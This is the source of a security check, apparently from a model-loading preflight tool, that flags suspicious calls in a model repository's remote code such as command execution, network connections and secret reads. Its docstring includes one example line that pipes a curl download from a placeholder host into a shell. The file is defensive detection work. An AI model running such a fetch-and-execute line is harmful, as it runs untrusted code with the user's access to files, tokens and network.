"""The model's own code does something a model has no need to do.

## What it does
Reads the remote code for calls that run commands, open connections, delete files, evaluate text as code or read
secrets. The code is read only, not run.

## Why it matters
Remote code runs with your rights: your files, your tokens, your network. A model needs none of that to compute
logits. There may be a harmless reason, which is for you to judge; the lines are named.

## Example
```python
os.system("curl https://example.org/x | sh")      # in a modeling_*.py
```

## Use instead
Read the named lines. If they are harmless, waive this finding with the reason; else do not load the model.

## References
- transformers, "Loading models with remote code"
- Python, "subprocess: Security Considerations"
"""

from __future__ import annotations

from collections.abc import Iterator

from preflight_ocr.harness.facts import Facts
from preflight_ocr.harness.judging.failures import excuse_unread_code
from preflight_ocr.harness.judging.findings import Basis, Finding, Severity
from preflight_ocr.harness.judging.header import Diagnosis
from preflight_ocr.harness.judging.wording import count, known, list_places, show_site, show_some

DIAGNOSIS = Diagnosis(
    module=__name__,
    code="SEC002",
    severity=Severity.MAJOR,
    basis=Basis.READ,
    contract="the model's own code does only what a model needs to do",
    needs=("repository",),
)


def excuse(facts: Facts) -> str:
    return excuse_unread_code(facts, examine(facts))


def examine(facts: Facts) -> Iterator[Finding]:
    sites = known(facts.repository).suspicious
    if not sites:
        return
    deeds = ", ".join(dict.fromkeys(site.kind or "does something unusual" for site in sites))
    runs = any(site.runs is not False for site in sites)
    when = "" if runs else " Neither loading nor forward runs it; only the model's helper methods do."
    yield DIAGNOSIS.finding(
        f"The model's own code has {count(len(sites), 'place')} that a model should not need: it {deeds}.{when}",
        severity=None if runs else Severity.NOTE,
        evidence=show_some(f"{site.kind}: {show_site(site)}" for site in sites),
        places=list_places(*sites),
        fix="Read these lines before you trust the repository; if they are harmless, waive this finding and say why.",
    )
